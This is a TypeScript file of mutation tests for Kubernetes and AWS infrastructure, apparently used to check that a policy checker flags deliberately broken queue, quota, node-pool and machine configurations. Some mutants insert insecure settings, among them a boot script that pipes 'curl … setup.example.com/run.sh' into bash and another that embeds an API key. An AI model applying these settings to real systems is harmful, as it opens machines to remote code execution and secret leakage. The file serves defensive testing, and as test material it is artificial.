import { added, kubernetes, object, type StackMutant, welcome } from "./mutant.ts";

const KUEUE = "kueue.x-k8s.io/v1beta2";
const SHARE = kubernetes("workloads", `${KUEUE}:ClusterQueue`, "risk-queue-share");
const CPU_SHARE = kubernetes("workloads", `${KUEUE}:ClusterQueue`, "risk-queue-cpu-share");
const QUEUE = kubernetes("workloads", `${KUEUE}:LocalQueue`, "risk-queue");
const FLAVOR = kubernetes("platform", `${KUEUE}:ResourceFlavor`, "queues-flavor-training");
const COHORT = kubernetes("platform", `${KUEUE}:Cohort`, "queues-cohort");
const pool = (name: string) => kubernetes("platform", "karpenter.sh/v1:NodePool", name);
const machines = (name: string) => kubernetes("platform", "karpenter.k8s.aws/v1:EC2NodeClass", `${name}-class`);
const quota = (name: string) => kubernetes("workloads", "core/v1:ResourceQuota", name);
const limits = (name: string) => kubernetes("workloads", "core/v1:LimitRange", name);

const TRAINING = pool("training");
const INFERENCE = pool("inference");
const MACHINES = machines("training");

const amount = (name: string, edit: (resource: any) => void) => (inputs: any) =>
  edit(inputs.spec.resourceGroups[0].flavors[0].resources.find((each: any) => each.name === name));
const template = (edit: (spec: any, metadata: any) => void) => (inputs: any) =>
  edit(inputs.spec.template.spec, inputs.spec.template.metadata);

/** Queues of teams, and what they may take. */
export const QUEUES: readonly StackMutant[] = [
  SHARE.bad("a queue for every namespace", ({ spec }) => {
    spec.namespaceSelector = {};
  }),
  SHARE.bad("a queue for every team", ({ spec }) => {
    spec.namespaceSelector = { matchExpressions: [{ key: "millrace.dev/team", operator: "Exists" }] };
  }),
  SHARE.bad("a queue for no namespace", ({ spec }) => {
    delete spec.namespaceSelector;
  }),
  SHARE.bad(
    "a quota of more GPUs than there are",
    amount("nvidia.com/gpu", (it) => {
      it.nominalQuota = "128";
    }),
  ),
  SHARE.bad(
    "a quota of GPUs in thousands",
    amount("nvidia.com/gpu", (it) => {
      it.nominalQuota = "64k";
    }),
  ),
  SHARE.bad(
    "a queue that takes the pool of everybody",
    amount("nvidia.com/gpu", (it) => {
      it.borrowingLimit = "640";
    }),
  ),
  SHARE.bad("a queue that does not count GPUs", ({ spec }) => {
    spec.resourceGroups[0].coveredResources = ["cpu", "memory"];
    spec.resourceGroups[0].flavors[0].resources = spec.resourceGroups[0].flavors[0].resources.slice(0, 2);
  }),
  SHARE.bad("a queue that never starts anything", ({ spec }) => {
    spec.stopPolicy = "HoldAndDrain";
  }),
  SHARE.bad("a queue of machines that do not exist", ({ spec }) => {
    spec.resourceGroups[0].flavors[0].name = "a100";
  }),
  SHARE.bad("a queue that ends other teams' jobs", ({ spec }) => {
    spec.preemption.borrowWithinCohort = { policy: "LowerPriority" };
  }),
  SHARE.bad("a queue that never gets its own machines back", ({ spec }) => {
    spec.preemption.reclaimWithinCohort = "Never";
  }),
  CPU_SHARE.bad(
    "a quota of more CPUs than there are",
    amount("cpu", (it) => {
      it.nominalQuota = "3200";
    }),
  ),
  COHORT.bad("a group of queues with more GPUs than there are", ({ spec }) => {
    spec.resourceGroups = [
      {
        coveredResources: ["nvidia.com/gpu"],
        flavors: [{ name: "training", resources: [{ name: "nvidia.com/gpu", nominalQuota: "512" }] }],
      },
    ];
  }),
  QUEUE.bad("a queue that hands jobs to another team's quota", ({ spec }) => {
    spec.clusterQueue = "fraud";
  }),
  QUEUE.bad("a queue that accepts and never starts", ({ spec }) => {
    spec.stopPolicy = "Hold";
  }),
  ((it) => added("workloads", it.type, "one more queue without a limit of machines", it.inputs))(
    object(KUEUE, "ClusterQueue", {
      metadata: { name: "spare" },
      spec: {
        namespaceSelector: {},
        resourceGroups: [
          {
            coveredResources: ["nvidia.com/gpu"],
            flavors: [{ name: "training", resources: [{ name: "nvidia.com/gpu", nominalQuota: "9999" }] }],
          },
        ],
      },
    }),
  ),
  FLAVOR.bad("machines of training that jobs do not tolerate", ({ spec }) => {
    delete spec.tolerations;
  }),
  FLAVOR.bad("machines of training that are any machines", ({ spec }) => {
    delete spec.nodeLabels;
  }),
  FLAVOR.bad("machines of training that tolerate everything", ({ spec }) => {
    spec.tolerations = [{ operator: "Exists" }];
  }),
  quota("risk-jobs-quota").bad("a namespace that may hold ten times the GPUs", ({ spec }) => {
    spec.hard["requests.nvidia.com/gpu"] = "640";
  }),
  quota("risk-jobs-quota").bad(
    "a namespace whose GPUs nobody counts",
    ({ spec }) => {
      delete spec.hard["requests.nvidia.com/gpu"];
    },
    "risk-jobs",
  ),
  quota("risk-jobs-quota").bad("a namespace whose pods nobody counts", ({ spec }) => {
    delete spec.hard.pods;
  }),
  quota("risk-models-quota").bad("a namespace that opens ports of nodes", ({ spec }) => {
    spec.hard["services.nodeports"] = "10";
  }),
  quota("risk-models-quota").bad("a namespace that makes load balancers", ({ spec }) => {
    delete spec.hard["services.loadbalancers"];
  }),
  quota("risk-models-quota").removed("a namespace of models without a quota"),
  quota("risk-jobs-priorities").removed("a namespace whose jobs may push the system out"),
  quota("risk-jobs-priorities").bad("a namespace with a hundred pods of the system's priority", ({ spec }) => {
    spec.hard.pods = "100";
  }),
  limits("risk-jobs-limits").removed("a namespace without defaults"),
  limits("risk-models-limits").bad("a default limit that refuses requests above it", ({ spec }) => {
    spec.limits[0].max = { memory: "256Mi" };
  }),
  kubernetes("platform", "scheduling.k8s.io/v1:PriorityClass", "platform-priority").bad(
    "a priority that every pod has",
    (inputs) => {
      inputs["globalDefault"] = true;
    },
  ),
  kubernetes("platform", `${KUEUE}:WorkloadPriorityClass`, "queues-priority-low").bad(
    "a low priority that is the highest",
    (inputs) => {
      inputs["value"] = 100_000;
    },
  ),

  SHARE.harmless(
    "a smaller quota",
    amount("nvidia.com/gpu", (it) => {
      it.nominalQuota = "32";
    }),
  ),
  SHARE.harmless(
    "a quota as a number",
    amount("nvidia.com/gpu", (it) => {
      it.nominalQuota = 64;
    }),
  ),
  SHARE.harmless(
    "a quota of memory in another unit",
    amount("memory", (it) => {
      it.nominalQuota = "15482880Mi";
    }),
  ),
  SHARE.harmless("a queue by the name of its namespace", ({ spec }) => {
    spec.namespaceSelector = { matchLabels: { "kubernetes.io/metadata.name": "team-risk" } };
  }),
  SHARE.harmless("a queue by its team, as an expression", ({ spec }) => {
    spec.namespaceSelector = { matchExpressions: [{ key: "millrace.dev/team", operator: "In", values: ["risk"] }] };
  }),
  SHARE.harmless("a queue in strict order", ({ spec }) => {
    spec.queueingStrategy = "StrictFIFO";
  }),
  SHARE.harmless(
    "a queue that lends half of its machines",
    amount("nvidia.com/gpu", (it) => {
      it.lendingLimit = "32";
    }),
  ),
  FLAVOR.harmless("machines of training that tolerate one taint by its value", ({ spec }) => {
    spec.tolerations = [{ key: "nvidia.com/gpu", operator: "Equal", value: "true", effect: "NoSchedule" }];
  }),
  quota("risk-jobs-quota").harmless("a namespace with fewer pods", ({ spec }) => {
    spec.hard.pods = "100";
  }),
  quota("risk-models-quota").harmless("a namespace with no load balancer, as a number", ({ spec }) => {
    spec.hard["services.loadbalancers"] = 0;
  }),
  limits("risk-jobs-limits").harmless("another default request", ({ spec }) => {
    spec.limits[0].defaultRequest.cpu = "0.1";
  }),
  ((it) => welcome("platform", it.type, "one more priority between the two", it.inputs))(
    object(KUEUE, "WorkloadPriorityClass", { metadata: { name: "middle" }, value: 0, description: "between" }),
  ),
];

/** Pools of machines, and what a machine is. */
export const POOLS: readonly StackMutant[] = [
  TRAINING.bad("a pool without a limit", ({ spec }) => {
    delete spec.limits;
  }),
  TRAINING.bad("a pool with a limit of CPUs in place of GPUs", ({ spec }) => {
    spec.limits = { cpu: "100000" };
  }),
  TRAINING.bad("a pool with a limit in thousands", ({ spec }) => {
    spec.limits["nvidia.com/gpu"] = "64k";
  }),
  pool("cpu").bad("a pool of CPUs without a limit", ({ spec }) => {
    spec.limits = {};
  }),
  TRAINING.bad(
    "a pool of GPUs without a taint",
    template((spec) => {
      delete spec.taints;
    }),
  ),
  INFERENCE.bad(
    "a pool of GPUs whose taint only advises",
    template((spec) => {
      spec.taints[0].effect = "PreferNoSchedule";
    }),
  ),
  INFERENCE.bad(
    "a pool of GPUs with the taint of something else",
    template((spec) => {
      spec.taints[0].key = "example.com/gpu";
    }),
  ),
  TRAINING.bad("training that is moved while it runs", ({ spec }) => {
    spec.disruption.consolidationPolicy = "WhenEmptyOrUnderutilized";
    spec.disruption.budgets = [{ nodes: "100%" }];
  }),
  TRAINING.bad("training whose machines drift away at once", ({ spec }) => {
    spec.disruption.budgets = [{ nodes: "100%" }];
  }),
  TRAINING.bad("empty machines that stay", ({ spec }) => {
    spec.disruption.consolidateAfter = "Never";
  }),
  TRAINING.bad("empty machines that stay for a day", ({ spec }) => {
    spec.disruption.consolidateAfter = "24h";
  }),
  INFERENCE.bad(
    "machines that never get a new image",
    template((spec) => {
      spec.expireAfter = "Never";
    }),
  ),
  INFERENCE.bad(
    "machines whose pods hold them for ever",
    template((spec) => {
      delete spec.terminationGracePeriod;
    }),
  ),
  INFERENCE.bad(
    "models on machines that AWS takes back",
    template((spec) => {
      spec.requirements[1].values = ["spot"];
    }),
  ),
  TRAINING.bad(
    "machines of any kind",
    template((spec) => {
      spec.requirements = spec.requirements.slice(1);
    }),
  ),
  TRAINING.bad(
    "machines of every kind but one",
    template((spec) => {
      spec.requirements[0] = { key: "node.kubernetes.io/instance-type", operator: "NotIn", values: ["t3.micro"] };
    }),
  ),
  TRAINING.bad(
    "machines without GPUs in a pool of GPUs",
    template((spec) => {
      spec.requirements[0].values = ["m7i.48xlarge"];
    }),
  ),
  TRAINING.bad(
    "machines that the region does not have",
    template((spec) => {
      spec.requirements[0].values = ["p4de.24xlarge"];
    }),
  ),
  pool("cpu").bad(
    "a pool of machines of another class",
    template((spec) => {
      spec.nodeClassRef.name = "gone";
    }),
  ),
  MACHINES.bad("machines with the old metadata service", ({ spec }) => {
    spec.metadataOptions.httpTokens = "optional";
  }),
  machines("cpu").bad("machines whose pods reach the metadata service", ({ spec }) => {
    spec.metadataOptions.httpPutResponseHopLimit = 2;
  }),
  machines("inference").bad("machines with the metadata service as AWS sets it", ({ spec }) => {
    delete spec.metadataOptions;
  }),
  MACHINES.bad("machines with an open disk", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.encrypted = false;
  }),
  MACHINES.bad("machines with an open disk, as text", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.encrypted = "false";
  }),
  machines("cpu").bad("machines with the disk of their image", ({ spec }) => {
    delete spec.blockDeviceMappings;
  }),
  machines("cpu").bad("disks that stay behind", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.deleteOnTermination = false;
  }),
  MACHINES.bad("machines with the newest image, whichever that is", ({ spec }) => {
    spec.amiSelectorTerms = [{ alias: "al2023@latest" }];
  }),
  MACHINES.bad("machines with somebody's image", ({ spec }) => {
    spec.amiSelectorTerms = [{ name: "gpu-*", owner: "*" }];
  }),
  MACHINES.bad("machines with a public address", ({ spec }) => {
    spec.associatePublicIPAddress = true;
  }),
  MACHINES.bad("machines in the public subnets", ({ spec }) => {
    spec.subnetSelectorTerms = [{ tags: { "kubernetes.io/role/elb": "1" } }];
  }),
  MACHINES.bad("machines in every group of the account", ({ spec }) => {
    spec.securityGroupSelectorTerms = [{ tags: { Name: "*" } }];
  }),
  machines("inference").bad("machines that start with a secret", ({ spec }) => {
    spec.userData = "#!/bin/bash\nexport WANDB_API_KEY=q7Rk9sLw2mXvB4tZq7Rk9sLw2mXvB4tZ\n";
  }),
  machines("inference").bad("machines that start with a program of somebody", ({ spec }) => {
    spec.userData = "#!/bin/bash\ncurl -s http://setup.example.com/run.sh | bash\n";
  }),
  machines("cpu").bad("machines that nobody pays for", ({ spec }) => {
    delete spec.tags;
  }),
  machines("cpu").bad("machines with the role of the node controller", ({ spec }) => {
    spec.role = "millrace-prod-karpenter-controller-55a14ca";
  }),

  TRAINING.harmless("a limit as a number", ({ spec }) => {
    spec.limits["nvidia.com/gpu"] = 64;
  }),
  TRAINING.harmless("a limit of CPUs too", ({ spec }) => {
    spec.limits.cpu = "1536";
  }),
  TRAINING.harmless("empty machines that go after half an hour, in minutes", ({ spec }) => {
    spec.disruption.consolidateAfter = "30m";
  }),
  TRAINING.harmless("empty machines that go at once", ({ spec }) => {
    spec.disruption.consolidateAfter = "60s";
  }),
  INFERENCE.harmless(
    "machines that are renewed each week",
    template((spec) => {
      spec.expireAfter = "168h";
    }),
  ),
  INFERENCE.harmless(
    "one more label of machines",
    template((_, metadata) => {
      metadata.labels["example.com/owner"] = "platform";
    }),
  ),
  pool("cpu").harmless(
    "demands on machines in another order",
    template((spec) => spec.requirements.reverse()),
  ),
  MACHINES.harmless("machines with a larger disk", ({ spec }) => {
    spec.blockDeviceMappings[0].ebs.volumeSize = "1Ti";
  }),
  MACHINES.harmless("machines with one more tag", ({ spec }) => {
    spec.tags.purpose = "training";
  }),
  MACHINES.harmless("machines by the tag of their subnets", ({ spec }) => {
    spec.subnetSelectorTerms = [{ tags: { "karpenter.sh/discovery": "millrace-prod" } }];
  }),
  machines("cpu").harmless("machines that say that they have no public address", ({ spec }) => {
    spec.associatePublicIPAddress = false;
  }),
];
